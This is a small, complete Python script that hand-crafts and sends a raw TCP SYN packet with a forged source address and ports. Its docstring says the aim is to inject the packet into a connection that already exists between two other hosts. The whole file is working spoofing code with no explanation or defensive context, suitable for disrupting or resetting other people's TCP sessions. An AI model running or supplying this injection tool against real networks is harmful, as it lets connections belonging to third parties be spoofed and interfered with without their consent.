#!/usr/bin/env python3
"""Sends one TCP SYN for a connection that is there already, as anybody can who gives it these addresses and ports.

forged_syn.py SOURCE SOURCE_PORT DESTINATION DESTINATION_PORT
"""
import socket, struct, sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


source, source_port, destination, destination_port = sys.argv[1:]
ends = socket.inet_aton(source) + socket.inet_aton(destination)
SYN, WORDS = 2, 5


def header(sum_field):
    ports = int(source_port), int(destination_port)
    return struct.pack("!HHIIBBHHH", *ports, 12345, 0, WORDS << 4, SYN, 64240, sum_field, 0)


tcp = header(checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 4 * WORDS) + header(0)))
ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0) + ends
socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(ip + tcp, (destination, 0))
